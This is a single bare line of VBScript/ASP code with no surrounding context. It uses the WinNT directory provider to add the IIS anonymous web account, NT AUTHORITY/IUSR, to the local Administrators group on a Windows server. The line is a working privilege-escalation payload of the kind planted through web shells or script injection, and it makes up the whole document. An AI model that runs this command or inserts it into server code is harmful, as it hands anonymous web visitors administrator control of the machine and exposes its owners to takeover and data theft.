GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
